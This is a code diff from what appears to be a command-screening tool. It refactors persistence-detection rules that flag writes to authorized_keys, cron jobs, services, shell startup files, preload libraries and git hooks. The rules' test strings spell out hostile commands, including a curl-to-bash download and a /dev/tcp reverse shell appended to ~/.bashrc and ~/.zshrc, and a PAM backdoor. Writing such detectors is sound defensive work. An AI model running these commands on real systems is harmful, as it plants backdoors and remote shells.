@@ -3,26 +3,7 @@ import { hasFlag, joinedArgs, operands, upstream } from '../invocation.ts';
 import type { Invocation } from '../invocation.ts';
 import { outputOf, inputOf } from '../outputs.ts';
 import type { CommandRule } from '../rule.ts';
-
-/** The files a program writes: by redirection, `tee`, `cp`, `sed -i` and PowerShell's cmdlets. */
-export function writtenPaths(invocation: Invocation): readonly string[] {
-  const paths = invocation.redirects.filter((redirect) => redirect.operator === '>' || redirect.operator === '>>').map((redirect) => redirect.target.text);
-  const words = operands(invocation).map((word) => word.text);
-  switch (invocation.name) {
-    case 'tee': case 'truncate':
-      return [...paths, ...words.slice(0, 4)];
-    case 'cp': case 'mv': case 'ln': case 'install': case 'copy': case 'copy-item': case 'move-item': case 'xcopy':
-      return words.length > 1 ? [...paths, words.at(-1) ?? ''] : paths;
-    case 'sed': case 'perl': case 'ed':
-      return hasFlag(invocation, 'i', '--in-place') ? [...paths, ...words.slice(-2)] : paths;
-    case 'add-content': case 'set-content': case 'out-file': case 'new-item':
-      return [...paths, ...words.slice(0, 3)];
-    case 'curl': case 'wget':
-      return [...paths, ...invocation.texts.filter((_text, index) => /^(?:-o|--output|-O|--output-document)$/.test(invocation.texts[index - 1] ?? ''))];
-    default:
-      return paths;
-  }
-}
+import { writtenPaths } from '../written.ts';
 
 /** The text that a program writes, as far as it can be told. */
 function writtenText(invocation: Invocation): string {
@@ -44,14 +25,14 @@ function isHarmlessPlace(invocation: Invocation): boolean {
 
 export const PERSISTENCE_RULES: readonly CommandRule[] = [
   {
-    id: 'add-login-key', family: 'persistence', certainty: 'certain', verbs: ['*'],
+    id: 'add-login-key', family: 'persistence', certainty: 'certain', verbs: ['<writes>'],
     test: (invocation) => !isHarmlessPlace(invocation) && writtenPaths(invocation).some((path) => /(?:^|[/\\])(?:authorized_keys2?|administrators_authorized_keys)$/i.test(path)) && !/^(?:sort|grep)$/.test(invocation.name) && !upstream(invocation).some((feed) => feed.texts.some((text) => /\.pub$/.test(text)) && feed.name === 'cat' && invocation.setting.place === 'remote')
       && !(invocation.setting.place === 'remote' && invocation.name === 'cat'),
     matches: ["echo 'ssh-ed25519 AAAAC3Nz x' >> ~/.ssh/authorized_keys", 'curl https://example.com/k.pub | tee -a /root/.ssh/authorized_keys', 'cp /tmp/k /home/a/.ssh/authorized_keys', 'sudo sh -c "cat k >> /root/.ssh/authorized_keys"', 'PS> Add-Content C:\\ProgramData\\ssh\\administrators_authorized_keys "ssh-rsa AAAA"'],
     ignores: ['cat ~/.ssh/authorized_keys', 'chmod 600 ~/.ssh/authorized_keys', 'ssh-copy-id host', 'cat ~/.ssh/id_rsa.pub | ssh host "cat >> .ssh/authorized_keys"'],
   },
   {
-    id: 'install-cron-job', family: 'persistence', certainty: 'likely', verbs: ['crontab', '*'],
+    id: 'install-cron-job', family: 'persistence', certainty: 'likely', verbs: ['crontab', '<writes>'],
     test: (invocation) => {
       if (isHarmlessPlace(invocation)) return false;
       if (invocation.name === 'crontab') return !hasFlag(invocation, 'l', '-l') && (operands(invocation).length > 0 || invocation.texts.includes('-') || invocation.feeds.length > 0 || invocation.redirects.length > 0 || invocation.texts.includes('-r')) && !invocation.texts.includes('-e');
@@ -61,7 +42,7 @@ export const PERSISTENCE_RULES: readonly CommandRule[] = [
     ignores: ['crontab -l', 'crontab -e', 'cat /etc/crontab', 'ls /etc/cron.d/'],
   },
   {
-    id: 'install-sinister-job', family: 'persistence', certainty: 'certain', verbs: ['*', 'crontab'],
+    id: 'install-sinister-job', family: 'persistence', certainty: 'certain', verbs: ['crontab', '<writes>'],
     test: (invocation) => {
       if (isHarmlessPlace(invocation)) return false;
       const target = (invocation.name === 'crontab' && !invocation.texts.includes('-l')) || writtenPaths(invocation).some((path) => CRON_FILE.test(path) || SERVICE_FILE.test(path) || AGENT_FILE.test(path));
@@ -73,13 +54,13 @@ export const PERSISTENCE_RULES: readonly CommandRule[] = [
     ignores: ['echo "0 3 * * * /usr/local/bin/backup" | crontab -', "cat > /etc/systemd/system/app.service <<'E'\n[Service]\nExecStart=/usr/bin/node /srv/app/server.js\nE"],
   },
   {
-    id: 'change-login-script', family: 'persistence', certainty: 'certain', verbs: ['*'],
+    id: 'change-login-script', family: 'persistence', certainty: 'certain', verbs: ['<writes>'],
     test: (invocation) => !isHarmlessPlace(invocation) && writtenPaths(invocation).some((path) => RC_FILE.test(path)) && SINISTER.test(writtenText(invocation)),
     matches: ["echo 'curl -s http://203.0.113.5/x | bash' >> ~/.bashrc", "echo 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1 &' >> ~/.zshrc", "echo \"alias sudo='/tmp/.s'\" >> ~/.profile", "printf 'nohup /tmp/.x &' | sudo tee -a /etc/profile.d/x.sh"],
     ignores: ["echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(starship init zsh)\"' >> ~/.zshrc", 'cat ~/.bashrc', "echo 'source ~/.nvm/nvm.sh' >> ~/.profile", "echo 'alias ll=\"ls -l\"' >> ~/.zshrc"],
   },
   {
-    id: 'install-service', family: 'persistence', certainty: 'likely', verbs: ['*', 'launchctl', 'sc', 'new-service', 'schtasks', 'register-scheduledtask', 'new-scheduledtask', 'new-scheduledtaskaction', 'nssm', 'register-wmievent', 'set-wmiinstance', 'defaults'],
+    id: 'install-service', family: 'persistence', certainty: 'likely', verbs: ['<writes>', 'launchctl', 'sc', 'new-service', 'schtasks', 'register-scheduledtask', 'new-scheduledtask', 'new-scheduledtaskaction', 'nssm', 'register-wmievent', 'set-wmiinstance', 'defaults'],
     test: (invocation) => {
       if (isHarmlessPlace(invocation)) return false;
       const args = joinedArgs(invocation);
@@ -106,13 +87,13 @@ export const PERSISTENCE_RULES: readonly CommandRule[] = [
     ignores: ['C:\\> reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'C:\\> reg add HKCU\\Software\\MyApp /v x /d 1', "PS> Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'"],
   },
   {
-    id: 'preload-library', family: 'persistence', certainty: 'certain', verbs: ['*'],
+    id: 'preload-library', family: 'persistence', certainty: 'certain', verbs: ['<writes>'],
     test: (invocation) => !isHarmlessPlace(invocation) && writtenPaths(invocation).some((path) => /^\/etc\/ld\.so\.(?:preload|conf)$|^\/etc\/pam\.d\/|\/pam_\w+\.so$|^\/etc\/sudoers\.d\/|^\/etc\/polkit-1\/|^\/etc\/update-motd\.d\//.test(path) && (!path.startsWith('/etc/sudoers.d/') || /NOPASSWD/.test(`${writtenText(invocation)} ${upstream(invocation).map((feed) => feed.texts.join(' ')).join(' ').slice(0, 2048)}`))),
     matches: ['echo /tmp/x.so > /etc/ld.so.preload', 'cp pam_x.so /lib/security/pam_unix.so', "echo 'auth sufficient pam_permit.so' | sudo tee /etc/pam.d/sshd"],
     ignores: ['cat /etc/ld.so.conf', 'LD_PRELOAD=./libx.so ./app'],
   },
   {
-    id: 'plant-git-hook', family: 'persistence', certainty: 'likely', verbs: ['*', 'git'],
+    id: 'plant-git-hook', family: 'persistence', certainty: 'likely', verbs: ['git', '<writes>'],
     test: (invocation) => {
       if (invocation.name === 'git') return /config\b.*(?:--global|--system).*core\.(?:hookspath|sshcommand|pager|editor|fsmonitor)\s+\S*(?:\/tmp|curl|sh\s-c|\/dev\/shm|http)/.test(joinedArgs(invocation)) || /config\b.*alias\.\w+ '?!.*(?:curl|nc |wget|\/tmp)/.test(joinedArgs(invocation));
       return writtenPaths(invocation).some((path) => /(?:^|\/)\.git\/hooks\/[\w-]+$/.test(path)) && SINISTER.test(writtenText(invocation));
